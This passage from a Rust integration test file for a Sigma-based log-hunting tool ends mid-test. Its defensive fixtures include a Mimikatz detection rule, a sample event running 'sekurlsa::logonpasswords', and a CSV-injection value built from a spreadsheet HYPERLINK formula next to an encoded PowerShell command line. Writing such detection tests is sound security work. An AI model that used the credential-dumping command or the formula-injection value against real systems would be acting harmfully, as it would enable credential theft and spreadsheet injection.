//! `vigil hunt` and `vigil rules check` as a user runs them: small constructed rules and
//! events, plus one real EVTX sample from ../shared/data.

use std::path::Path;

use crate::support::{RULE_REPEATED_FAILURES, RULE_WHOAMI, ok, output_with_input, run};

const RULE_HIGH: &str = r#"title: Mimikatz Command Line
id: 22222222-2222-2222-2222-222222222222
level: high
status: test
tags:
    - attack.credential_access
    - attack.t1003.001
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'sekurlsa::'
    condition: selection
"#;

const RULE_BAD: &str = r#"title: Broken
id: 33333333-3333-3333-3333-333333333333
logsource:
    product: windows
detection:
    selection:
        Image|contans: 'x'
    condition: selection
"#;

fn sysmon1(record: u64, time: &str, image: &str, cmd: &str) -> String {
    serde_json::json!({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
            "EventID": 1, "EventRecordID": record, "Computer": "WS01",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "TimeCreated": {"#attributes": {"SystemTime": time}}
        },
        "EventData": {"Image": image, "CommandLine": cmd}
    }})
    .to_string()
}

fn fixture(dir: &Path) {
    std::fs::create_dir(dir.join("rules")).unwrap();
    std::fs::write(dir.join("rules/whoami.yml"), RULE_WHOAMI).unwrap();
    std::fs::write(dir.join("rules/mimikatz.yml"), RULE_HIGH).unwrap();
    std::fs::create_dir(dir.join("logs")).unwrap();
    let lines = [
        sysmon1(
            10,
            "2024-01-01T10:00:00Z",
            r"C:\Windows\System32\whoami.exe",
            "whoami /all",
        ),
        sysmon1(
            11,
            "2024-01-01T11:00:00Z",
            r"C:\Windows\notepad.exe",
            "notepad",
        ),
        sysmon1(
            12,
            "2024-01-02T10:00:00Z",
            r"C:\t\m.exe",
            "m.exe sekurlsa::logonpasswords",
        ),
    ];
    std::fs::write(dir.join("logs/a.jsonl"), lines.join("\n") + "\n{broken\n").unwrap();
    std::fs::write(dir.join("logs/README.md"), "# not a log\n").unwrap();
    // A log rotated away: empty, read, holding nothing.
    std::fs::write(dir.join("logs/rotated.log"), "").unwrap();
    // An application's own log, in no format Vigil reads without --text: skipped, but named.
    std::fs::write(
        dir.join("logs/datanode.log"),
        "081109 203615 148 INFO dfs.DataNode: PacketResponder 1 terminating\n",
    )
    .unwrap();
    // An export that failed half-way: named like a log, holding none.
    std::fs::write(
        dir.join("logs/Security.evtx"),
        "<html>quota exceeded</html>",
    )
    .unwrap();
}

fn jsonl(out: &str) -> Vec<serde_json::Value> {
    out.lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn hunt_reports_matches_as_json_lines_with_line_numbers() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let d = dir.path().to_str().unwrap();
    let output = run(&[
        "hunt",
        "--rules",
        &format!("{d}/rules"),
        "--format",
        "jsonl",
        &format!("{d}/logs"),
    ]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let hits = jsonl(&ok(output));
    assert_eq!(hits.len(), 2, "{hits:?}");
    assert_eq!(hits[0]["rule_id"], "11111111-1111-1111-1111-111111111111");
    assert_eq!(hits[0]["rule_title"], "Whoami Run");
    assert_eq!(hits[0]["level"], "medium");
    assert_eq!(hits[0]["record_id"], 1, "JSON lines are numbered by line");
    assert_eq!(hits[0]["timestamp"], "2024-01-01T10:00:00.000Z");
    assert!(hits[0]["file"].as_str().unwrap().ends_with("a.jsonl"));
    assert_eq!(
        hits[0]["event"]["Event"]["EventData"]["CommandLine"],
        "whoami /all"
    );
    assert_eq!(hits[1]["rule_id"], "22222222-2222-2222-2222-222222222222");
    assert_eq!(hits[1]["record_id"], 3);
    // The broken line is reported with its file and line, the damaged log by name, and the
    // README is skipped.
    assert!(stderr.contains("a.jsonl: record 4"), "{stderr}");
    assert!(
        stderr.contains("Security.evtx: not an EVTX") && !stderr.contains("README"),
        "{stderr}"
    );
    // Read: a.jsonl and the empty log (not the README, nor the damaged export); the README
    // and the application's log skipped, the log named.
    assert!(stderr.contains("2 files, 3 events, 2 matches"), "{stderr}");
    assert!(
        stderr.contains("2 files skipped: no format Vigil reads; named like text logs: ")
            && stderr.contains("datanode.log; give --text"),
        "{stderr}"
    );
    assert!(!stderr.contains("rotated.log"), "{stderr}");
    // Then what they add up to: per level, per rule, per computer, and when.
    for summary in [
        "matches by level: 1 high, 1 medium\n",
        "rules with the most matches (2 rules matched):\n",
        "computers with the most matches (1 in all):\n         2  WS01\n",
        "matched events from 2024-01-01T10:00:00.000Z to ",
    ] {
        assert!(stderr.contains(summary), "{summary:?} in {stderr}");
    }
    // With --timezone the table and the summary show times there; JSON lines keep UTC.
    let output = run(&[
        "hunt",
        "--rules",
        &format!("{d}/rules"),
        "--timezone",
        "America/New_York",
        &format!("{d}/logs/a.jsonl"),
    ]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let table = ok(output);
    assert!(
        table.contains("time (America/New_York)")
            && table.contains("2024-01-01T05:00:00.000-05:00"),
        "{table}"
    );
    assert!(
        stderr.contains("matched events from 2024-01-01T05:00:00.000-05:00 to "),
        "{stderr}"
    );
}

/// `VIGIL_TIMEZONE` is the responder's zone for `hunt` and `metrics` as for the other
/// commands: their tables and summaries show times there, and a --from/--to written without an
/// offset is read there; text logs' own times without an offset stay UTC unless --timezone is
/// given (as `vigil ingest` reads them). One that names no zone is refused (exit status 2) where
/// a time is read in it, and warned about where times are only shown.
#[test]
fn hunt_and_metrics_take_the_responders_zone_from_vigil_timezone() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let d = dir.path().to_str().unwrap();
    let (rules, logs) = (format!("{d}/rules"), format!("{d}/logs/a.jsonl"));
    std::fs::write(
        dir.path().join("app.log"),
        "2024-01-01 10:00:00 user whoami logged in\n",
    )
    .unwrap();
    let app = format!("{d}/app.log");
    let berlin = |args: &[&str]| {
        crate::support::vigil()
            .env("VIGIL_TIMEZONE", "Europe/Berlin")
            .args(args)
            .output()
            .unwrap()
    };
    let output = berlin(&["hunt", "-r", &rules, &logs]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let table = ok(output);
    assert!(
        table.contains("time (Europe/Berlin)") && table.contains("2024-01-01T11:00:00.000+01:00"),
        "{table}"
    );
    assert!(
        stderr.contains("matched events from 2024-01-01T11:00:00.000+01:00 to "),
        "{stderr}"
    );
    // 10:30 in Berlin is 09:30 UTC: the whoami run at 10:00 UTC is in the window.
    let window = ["--format", "jsonl", "--from", "2024-01-01 10:30"];
    let hits = jsonl(&ok(berlin(
        &[&["hunt", "-r", &rules][..], &window, &[&logs]].concat(),
    )));
    assert_eq!(hits.len(), 2, "{hits:?}");
    let hits = jsonl(&ok(run(
        &[&["hunt", "-r", &rules][..], &window, &[&logs]].concat()
    )));
    assert_eq!(hits.len(), 1, "in UTC without VIGIL_TIMEZONE: {hits:?}");
    // --timezone still wins.
    let hits = jsonl(&ok(berlin(
        &[
            &["hunt", "-r", &rules, "--timezone", "UTC"][..],
            &window,
            &[&logs],
        ]
        .concat(),
    )));
    assert_eq!(hits.len(), 1, "{hits:?}");
    // A text log's own time stays as written, in UTC.
    let hits = jsonl(&ok(berlin(&[
        "hunt", "--text", "--search", "whoami", "--format", "jsonl", &app,
    ])));
    assert_eq!(hits[0]["timestamp"], "2024-01-01T10:00:00.000Z", "{hits:?}");
    let table = ok(berlin(&["metrics", &logs]));
    assert!(
        table.contains("FIRST (Europe/Berlin)") && table.contains("2024-01-01T11:00:00.000+01:00"),
        "{table}"
    );
    let counted = |out: std::process::Output| -> u64 {
        let v: serde_json::Value = serde_json::from_str(&ok(out)).unwrap();
        v["events"].as_u64().unwrap()
    };
    let metrics_window = ["metrics", "--json", "--from", "2024-01-01 10:30", &logs];
    assert_eq!(counted(berlin(&metrics_window)), 3);
    assert_eq!(counted(run(&metrics_window)), 2);

    // A zone that is no zone.
    let mars = |args: &[&str]| {
        crate::support::vigil()
            .env("VIGIL_TIMEZONE", "Mars/Olympus")
            .args(args)
            .output()
            .unwrap()
    };
    for args in [
        &[&["hunt", "-r", &rules][..], &window, &[&logs]].concat(),
        &metrics_window.to_vec(),
    ] {
        let refused = mars(args);
        let said = String::from_utf8_lossy(&refused.stderr);
        assert_eq!(refused.status.code(), Some(2), "{args:?}: {said}");
        assert!(
            said.contains("VIGIL_TIMEZONE") && said.contains("--from \"2024-01-01 10:30\""),
            "{args:?}: {said}"
        );
    }
    for args in [
        vec!["hunt", "-r", &rules, &logs],
        vec![
            "hunt",
            "-r",
            &rules,
            "--from",
            "2024-01-01T10:30:00Z",
            &logs,
        ],
        vec!["metrics", &logs],
    ] {
        let shown = mars(&args);
        let said = String::from_utf8_lossy(&shown.stderr).into_owned();
        let table = ok(shown);
        assert!(
            said.contains("warning: VIGIL_TIMEZONE: ") && said.contains("times are shown in UTC"),
            "{args:?}: {said}"
        );
        assert!(
            table.contains("2024-01-02T10:00:00.000Z"),
            "{args:?}: {table}"
        );
    }
    // Given --timezone, VIGIL_TIMEZONE is not looked at.
    let said = mars(&["hunt", "-r", &rules, "--timezone", "UTC", &logs]);
    assert!(!String::from_utf8_lossy(&said.stderr).contains("VIGIL_TIMEZONE"));
}

/// `--search`: text swept for in every value without a rule, with or without --rules.
#[test]
fn hunt_searches_for_text_in_every_event() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let d = dir.path().to_str().unwrap();
    let (rules, logs) = (format!("{d}/rules"), format!("{d}/logs/a.jsonl"));
    let found = |args: &[&str]| {
        let mut all = vec!["hunt", "--format", "jsonl"];
        all.extend_from_slice(args);
        all.push(&logs);
        jsonl(&ok(run(&all)))
            .iter()
            .map(|m| {
                (
                    m["rule_title"].as_str().unwrap().to_owned(),
                    m["record_id"].as_u64().unwrap(),
                )
            })
            .collect::<Vec<_>>()
    };
    // Any value, any case; `::` and `\` are themselves.
    assert_eq!(
        found(&["--search", "SEKURLSA::", "--search", r"system32\whoami"]),
        [
            ("Search: system32\\whoami".to_owned(), 1),
            ("Search: SEKURLSA::".to_owned(), 3)
        ]
    );
    let with_rules = found(&["-r", &rules, "--level", "high", "--search", "notepad"]);
    assert_eq!(
        with_rules,
        [
            ("Search: notepad".to_owned(), 2),
            ("Mimikatz Command Line".to_owned(), 3)
        ],
        "the rules narrowed, the search term reported whatever the level"
    );
    let level = jsonl(&ok(run(&[
        "hunt", "--format", "jsonl", "--search", "notepad", &logs,
    ])));
    assert_eq!(level[0]["level"], "informational");
    assert_eq!(
        level[0]["found"],
        serde_json::json!({"field": "Image", "value": r"C:\Windows\notepad.exe"})
    );
    // The table and CSV lead with the value the term was found in.
    let csv = ok(run(&[
        "hunt",
        "--format",
        "csv",
        "--search",
        "LOGONPASS",
        &logs,
    ]));
    let row = csv.lines().nth(1).unwrap_or_default();
    assert!(
        row.ends_with(r",CommandLine: m.exe sekurlsa::logonpasswords; Image: C:\t\m.exe"),
        "{csv}"
    );
    // An indicator list, a term per line, with --search beside it.
    let iocs = format!("{d}/iocs.txt");
    std::fs::write(&iocs, "# advisory 42\nNOTEPAD\n203.0.113.250\n").unwrap();
    assert_eq!(
        found(&["--search-file", &iocs, "--search", "whoami /all"]),
        [
            ("Search: whoami /all".to_owned(), 1),
            ("Search: NOTEPAD".to_owned(), 2)
        ]
    );
    // An address stands alone: 10.0.0.1 is not found inside 10.0.0.15.
    let addresses = format!("{d}/addresses.jsonl");
    std::fs::write(
        &addresses,
        "{\"msg\": \"from 10.0.0.15\"}\n{\"msg\": \"from 10.0.0.1.\"}\n",
    )
    .unwrap();
    let output = run(&[
        "hunt", "--format", "jsonl", "--search", "10.0.0.1", &addresses,
    ]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let hits = jsonl(&ok(output));
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0]["record_id"], 2);
    assert!(stderr.contains("2 events, 1 match"), "{stderr}");
    assert!(
        stderr.contains("search terms found: 1 of 1: 10.0.0.1 (1)\n"),
        "{stderr}"
    );
    // Narrowing flags narrow --rules: without them they are refused.
    let refused = run(&["hunt", "--search", "x", "--level", "high", &logs]);
    assert_eq!(refused.status.code(), Some(2));
    let empty = run(&["hunt", "--search", " ", &logs]);
    assert_eq!(empty.status.code(), Some(2), "an argument mistake");
    assert!(
        String::from_utf8_lossy(&empty.stderr).contains("needs some text to look for"),
        "{}",
        String::from_utf8_lossy(&empty.stderr)
    );
}

#[test]
fn hunt_filters_by_level_and_time_and_writes_csv() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let d = dir.path().to_str().unwrap();
    let (rules, logs) = (format!("{d}/rules"), format!("{d}/logs/a.jsonl"));
    let output = run(&[
        "hunt", "-r", &rules, "--format", "jsonl", "--level", "high", &logs,
    ]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        stderr.contains("reporting the matches of 1 rule of the 2 loaded\n"),
        "only the reported rule is run: {stderr}"
    );
    let high = jsonl(&ok(output));
    assert_eq!(high.len(), 1);
    assert_eq!(high[0]["level"], "high");
    let window = |from: &str, to: &str| {
        jsonl(&ok(run(&[
            "hunt", "-r", &rules, "--format", "jsonl", "--from", from, "--to", to, &logs,
        ])))
    };
    let day1 = window("2024-01-01T00:00:00Z", "2024-01-02T00:00:00Z");
    assert_eq!(day1.len(), 1);
    assert_eq!(day1[0]["rule_title"], "Whoami Run");
    // A date alone is its midnight, UTC.
    assert_eq!(window("2024-01-01", "2024-01-02"), day1);
    // Times and dates without an offset are in --timezone: 21:00 at +11:00 is 10:00 UTC, and
    // the next midnight there 13:00 UTC.
    let zoned = |zone: &str| {
        jsonl(&ok(run(&[
            "hunt",
            "-r",
            &rules,
            "--format",
            "jsonl",
            "--timezone",
            zone,
            "--from",
            "2024-01-01T21:00:00",
            "--to",
            "2024-01-02",
            &logs,
        ])))
    };
    assert_eq!(zoned("+11:00"), day1);
    assert!(zoned("UTC").is_empty());
    // Times relative to now: the 2024 events are years old.
    let since = |flags: &[&str]| {
        let mut args = vec!["hunt", "-r", &rules, "--format", "jsonl"];
        args.extend_from_slice(flags);
        args.push(&logs);
        jsonl(&ok(run(&args)))
    };
    assert!(since(&["--since", "7d"]).is_empty());
    assert!(since(&["--from", "now-7d"]).is_empty());
    assert_eq!(since(&["--since", "36500d"]).len(), 2);
    assert_eq!(since(&["--to", "now-1h"]).len(), 2);
    // The rules reported: by status, by tag (the tags under it too), an id left out.
    let titles = |flags: &[&str]| -> Vec<String> {
        since(flags)
            .iter()
            .map(|m| m["rule_title"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(
        titles(&["--status", "test,stable"]),
        ["Mimikatz Command Line"]
    );
    assert_eq!(
        titles(&["--tag", "ATTACK.T1003"]),
        ["Mimikatz Command Line"]
    );
    assert_eq!(
        titles(&["--exclude-rule", "22222222-2222-2222-2222-222222222222"]),
        ["Whoami Run"]
    );
    let typo = run(&["hunt", "-r", &rules, "--exclude-rule", "no-such-id", &logs]);
    assert!(
        String::from_utf8_lossy(&typo.stderr)
            .contains("--exclude-rule no-such-id: no loaded rule has this id"),
        "{}",
        String::from_utf8_lossy(&typo.stderr)
    );
    let nothing = run(&["hunt", "-r", &rules, "--status", "stable", &logs]);
    assert_eq!(nothing.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&nothing.stderr).contains("widen them"));
    let unknown = run(&["hunt", "-r", &rules, "--status", "production", &logs]);
    assert_eq!(unknown.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("stable, test, experimental"));
    let refused = run(&["hunt", "-r", &rules, "--since", "7 days", &logs]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("30s, 15m, 24h, 7d or 2w"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
    let csv = ok(run(&["hunt", "-r", &rules, "--format", "csv", &logs]));
    let mut lines = csv.lines();
    assert_eq!(
        lines.next().unwrap(),
        "timestamp,rule_id,rule_title,level,computer,file,record_id,details"
    );
    assert_eq!(lines.count(), 2);
    let table = ok(run(&["hunt", "-r", &rules, &logs]));
    assert!(
        table.contains("Mimikatz Command Line") && table.contains("WS01"),
        "{table}"
    );
    // The table names a file by its path below the folder given (the whole path is in jsonl
    // and csv), and the record number in a column of its own.
    assert!(
        table.contains("┆ a.jsonl ") && !table.contains(&logs) && table.contains("┆ 3 "),
        "{table}"
    );
}

#[test]
fn hunt_refuses_a_window_that_holds_no_time_as_an_argument_mistake() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let d = dir.path().to_str().unwrap();
    let (rules, logs) = (format!("{d}/rules"), format!("{d}/logs/a.jsonl"));
    for (from, to) in [("2025-01-01", "2024-01-01"), ("2024-01-01", "2024-01-01")] {
        let refused = run(&["hunt", "-r", &rules, "--from", from, "--to", to, &logs]);
        let stderr = String::from_utf8_lossy(&refused.stderr);
        assert_eq!(refused.status.code(), Some(2), "{stderr}");
        assert!(
            stderr.contains(&format!(
                "error: --from {from}T00:00:00.000Z is not before --to {to}T00:00:00.000Z"
            )) && stderr.contains("earlier than --to"),
            "{stderr}"
        );
    }
    // `vigil metrics` takes the same window.
    let refused = run(&[
        "metrics",
        "--from",
        "2025-01-01",
        "--to",
        "2024-01-01",
        &logs,
    ]);
    assert_eq!(refused.status.code(), Some(2));
}

#[test]
fn hunt_csv_makes_formulas_in_events_text() {
    // An attacker names a computer and writes a command line that a spreadsheet would run.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("r.yml"),
        "title: Encoded\nid: enc\nlogsource:\n  product: app\ndetection:\n  sel:\n    CommandLine|contains: enc\n  condition: sel\nfields:\n  - CommandLine\nlevel: low\n",
    )
    .unwrap();
    let event = serde_json::json!({
        "@timestamp": "2024-01-01T10:00:00Z",
        "Computer": "=HYPERLINK(\"http://x\",\"y\")",
        "CommandLine": "-enc SQBFAFgA",
    });
    std::fs::write(d.join("a.jsonl"), format!("{event}\n")).unwrap();
    let (rules, logs) = (d.join("r.yml"), d.join("a.jsonl"));
    let (rules, logs) = (rules.to_str().unwrap(), logs.to_str().unwrap());
    let csv = ok(run(&["hunt", "-r", rules, "--format", "csv", logs]));
    let row = csv.lines().nth(1).unwrap_or_default();
    assert!(
        row.contains(",\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\","),
        "the computer is text: {csv}"
    );
    // JSON lines keep the event as it was.
    let lines = jsonl(&ok(run(&["hunt", "-r", rules, "--format", "jsonl", logs])));
    assert_eq!(
        lines[0]["event"]["Computer"],
        "=HYPERLINK(\"http://x\",\"y\")"
    );
}

#[test]
fn hunt_says_what_its_time_window_left_out() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(
        d.join("r.yml"),
        "title: Any Login\nid: login\nlogsource:\n  product: app\ndetection:\n  sel:\n    action: login\n  condition: sel\nlevel: low\n",
    )
    .unwrap();
    // One event in the window, one after it, one with no time of its own.
    std::fs::write(
        d.join("a.jsonl"),
        concat!(
            r#"{"@timestamp":"2024-01-01T10:00:00Z","action":"login"}"#,
            "\n",
            r#"{"@timestamp":"2024-03-01T10:00:00Z","action":"login"}"#,
            "\n",
            r#"{"action":"login"}"#,
            "\n"
        ),
    )
    .unwrap();
    let (rules, logs) = (d.join("r.yml"), d.join("a.jsonl"));
    let (rules, logs) = (rules.to_str().unwrap(), logs.to_str().unwrap());
    let output = run(&[
        "hunt",
        "-r",
        rules,
        "--format",
        "jsonl",
        "--from",
        "2024-01-01",
        "--to",
        "2024-02-01",
        logs,
    ]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(jsonl(&ok(output)).len(), 1);
    assert!(
        stderr.contains(
            "left out: 1 event outside --from/--to; 1 event without a time of its own, which no window can place\n"
        ),
        "{stderr}"
    );
    // Without a window nothing is left out, and nothing said.
    let output = run(&["hunt", "-r", rules, "--format", "jsonl", logs]);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(jsonl(&ok(output)).len(), 3);
    assert!(!stderr.contains("left out"), "{stderr}");
}

#[test]
fn hunt_exit_codes_distinguish_errors_from_no_matches() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let d = dir.path().to_str().unwrap();
    std::fs::write(dir.path().join("none.jsonl"), "{\"a\":1}\n").unwrap();
    let none = ok(run(&[
        "hunt",
        "-r",
        &format!("{d}/rules"),
        &format!("{d}/none.jsonl"),
    ]));
    assert!(none.contains("no matches"));
    let missing = run(&["hunt", "-r", &format!("{d}/rules"), &format!("{d}/nope")]);
    assert!(!missing.status.success());
    assert!(String::from_utf8_lossy(&missing.stderr).contains("nope"));
    std::fs::create_dir(dir.path().join("empty")).unwrap();
    let no_rules = run(&["hunt", "-r", &format!("{d}/empty"), &format!("{d}/logs")]);
    assert!(!no_rules.status.success());
    assert!(String::from_utf8_lossy(&no_rules.stderr).contains("no rules loaded"));
    let bad_level = run(&["hunt", "-r", d, "--level", "severe", d]);
    assert!(!bad_level.status.success());
}

/// A file named on the command line that cannot be read is a mistake in the command, as a
/// missing one is: `hunt` and `metrics` stop with exit status 1 naming it and why, rather than
/// warning, reporting "no matches" and exiting 0. (A socket stands for it here: a test run as
/// root reads a `chmod 000` file all the same; the decision is `collect_files`', tested with
/// both in vigil-events.)
#[cfg(unix)]
#[test]
fn a_file_named_that_cannot_be_read_stops_hunt_and_metrics() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let d = dir.path().to_str().unwrap();
    let socket = dir.path().join("logs.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let socket = socket.to_str().unwrap();
    let rules = format!("{d}/rules");
    let logs = format!("{d}/logs");
    for args in [
        vec!["hunt", "-r", &rules, &logs, socket],
        vec!["hunt", "--search", "whoami", "--format", "jsonl", socket],
        vec!["metrics", &logs, socket],
    ] {
        let out = run(&args);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {stderr}");
        assert!(
            stderr.contains(&format!("cannot read {socket}: a socket, not a file")),
            "{args:?}: {stderr}"
        );
        assert!(String::from_utf8_lossy(&out.stdout).is_empty(), "{args:?}");
    }
}

/// A hunt with nothing to look for is the arguments' mistake (exit status 2), said as such: an
/// empty --search, or --search-file lists that hold no term and no --rules beside them. Given
/// rules, an empty list is warned about and the rules hunt.
#[test]
fn hunt_refuses_to_look_for_nothing() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let d = dir.path().to_str().unwrap();
    let (rules, logs) = (format!("{d}/rules"), format!("{d}/logs"));
    let empty = dir.path().join("iocs.txt");
    std::fs::write(&empty, "# indicators of INC-7\n\n   \n").unwrap();
    let empty = empty.to_str().unwrap();
    for (args, said) in [
        (
            vec!["hunt", "--search", "", &logs],
            "needs some text to look for",
        ),
        (
            vec!["hunt", "--search", "  ", &logs],
            "needs some text to look for",
        ),
        (
            vec!["hunt", "--search", "a\nb", &logs],
            "give --search once per term",
        ),
        (
            vec!["hunt", "--search-file", empty, &logs],
            "holds no terms",
        ),
    ] {
        let out = run(&args);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(said), "{args:?}: {stderr}");
        assert!(out.stdout.is_empty(), "{args:?}");
    }
    let out = run(&[
        "hunt",
        "--search-file",
        empty,
        "-r",
        &rules,
        "--format",
        "jsonl",
        &logs,
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(jsonl(&ok(out)).len(), 2);
    assert!(
        stderr.contains(&format!(
            "warning: the --search-file {empty} holds no terms"
        )),
        "{stderr}"
    );
}

#[test]
fn hunt_reads_evtx_natively() {
    let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join(
        "../../../shared/data/evtx/EVTX-ATTACK-SAMPLES/Command and Control/DE_RDP_Tunnel_5156.evtx",
    );
    let rules = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/sigma/rules/windows/builtin/security");
    let hits = jsonl(&ok(run(&[
        "hunt",
        "-r",
        rules.to_str().unwrap(),
        "--format",
        "jsonl",
        sample.to_str().unwrap(),
    ])));
    // The log-clear event is EventRecordID 227693 in its XML (the record header says 1);
    // Hayabusa's reference reports it under 227693 too.
    assert!(
        hits.iter()
            .any(|h| h["record_id"] == 227693 && h["rule_title"] == "Security Eventlog Cleared"),
        "{hits:?}"
    );
}

/// `-` reads standard input (`zcat x.gz | vigil hunt -r rules -`): EVTX and gzip JSON lines
/// find what the same file finds, named `-`.
#[test]
fn hunt_reads_standard_input() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let rules = dir.path().join("rules");
    let evtx = Path::new(env!("CARGO_MANIFEST_DIR")).join(
        "../../../shared/data/evtx/EVTX-ATTACK-SAMPLES/Command and Control/DE_RDP_Tunnel_5156.evtx",
    );
    let windows = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/data/sigma/rules/windows/builtin/security");
    let lines = dir.path().join("logs/a.jsonl");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&std::fs::read(&lines).unwrap()).unwrap();
    let cases = [
        (windows, evtx.clone(), std::fs::read(&evtx).unwrap()),
        (rules, lines, gz.finish().unwrap()),
    ];
    for (rules, file, piped) in cases {
        let args = |input: &str| {
            vec![
                "hunt".to_owned(),
                "-r".to_owned(),
                rules.to_str().unwrap().to_owned(),
                "--format".to_owned(),
                "jsonl".to_owned(),
                input.to_owned(),
            ]
        };
        let from_file = jsonl(&ok(crate::support::vigil()
            .args(args(file.to_str().unwrap()))
            .output()
            .unwrap()));
        let out = output_with_input(crate::support::vigil().args(args("-")), piped);
        let from_stdin = jsonl(&ok(out));
        assert!(!from_file.is_empty(), "{}", file.display());
        assert_eq!(from_stdin.len(), from_file.len(), "{}", file.display());
        for (a, b) in from_stdin.iter().zip(&from_file) {
            assert_eq!(a["file"], "-");
            assert_eq!(
                (&a["rule_id"], &a["record_id"], &a["event"]),
                (&b["rule_id"], &b["record_id"], &b["event"])
            );
        }
    }
}

#[test]
fn rules_check_reports_rejected_rules_with_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let rules = dir.path().join("rules");
    // Every rule loads: exit 0.
    ok(run(&["rules", "check", rules.to_str().unwrap()]));
    std::fs::write(dir.path().join("rules/bad.yml"), RULE_BAD).unwrap();
    // A rule rejected: the report as before, and exit 1, as a linter in a rule repository's CI.
    let output = run(&["rules", "check", "--json", rules.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    let v: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(v["rules_loaded"], 2);
    let rejected = v["rejected"].as_array().unwrap();
    assert_eq!(rejected.len(), 1, "{v}");
    assert!(rejected[0]["file"].as_str().unwrap().ends_with("bad.yml"));
    assert_eq!(rejected[0]["line"], 7);
    assert_eq!(v["rules_rejected"], 1);
    assert_eq!(v["per_logsource"]["windows/process_creation/-"], 2);

    // A rule with two problems is reported with both, and counted as one rule rejected.
    std::fs::write(
        dir.path().join("rules/two.yml"),
        "title: Two\nid: two\nlogsource: {product: windows}\ndetection:\n  sel:\n    Image|endswithh: x\n  condition: sel and missing\n",
    )
    .unwrap();
    let output = run(&["rules", "check", "--json", rules.to_str().unwrap()]);
    let v: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(v["rejected"].as_array().unwrap().len(), 3, "{v}");
    assert_eq!(v["rules_rejected"], 2, "{v}");
    let output = run(&["rules", "check", rules.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(text.contains("2 rejected (3 problems)"), "{text}");
}

#[test]
fn output_into_a_closed_pipe_ends_quietly() {
    // `vigil rules check DIR | head -1`: the reader is gone before the command writes (its end
    // of the pipe is closed at once); the command must neither panic nor report an error.
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let rules = dir.path().join("rules");
    let events = dir.path().join("logs");
    for args in [
        vec!["rules", "check", rules.to_str().unwrap()],
        vec!["rules", "check", "--json", rules.to_str().unwrap()],
        vec![
            "hunt",
            "--rules",
            rules.to_str().unwrap(),
            "--format",
            "jsonl",
            events.to_str().unwrap(),
        ],
    ] {
        let mut child = crate::support::vigil()
            .args(&args)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{args:?}: {}\n{stderr}", out.status);
        assert!(
            !stderr.contains("panicked") && !stderr.contains("error:"),
            "{args:?}: {stderr}"
        );
    }
}

#[test]
fn output_and_messages_into_one_closed_pipe_end_quietly() {
    // `vigil hunt … 2>&1 | head -1`: stdout and stderr are one pipe, closed before the command
    // writes. Its warnings and summary, and the note that the output was closed, meet the
    // closed pipe too: the command must not panic (exit status 101), and ends as it would have
    // with stderr open: 0 for a hunt the reader stopped, 1 for an error.
    let dir = tempfile::tempdir().unwrap();
    fixture(dir.path());
    let rules = dir.path().join("rules");
    let events = dir.path().join("logs");
    let missing = dir.path().join("missing");
    let (rules, events, missing) = (
        rules.to_str().unwrap(),
        events.to_str().unwrap(),
        missing.to_str().unwrap(),
    );
    let cases: [(&[&str], i32); 5] = [
        (&["hunt", "-r", rules, "--format", "jsonl", events], 0),
        (&["hunt", "-r", rules, events], 0),
        (&["metrics", events], 0),
        (&["rules", "check", rules], 0),
        (&["hunt", "-r", rules, missing], 1),
    ];
    for (args, code) in cases {
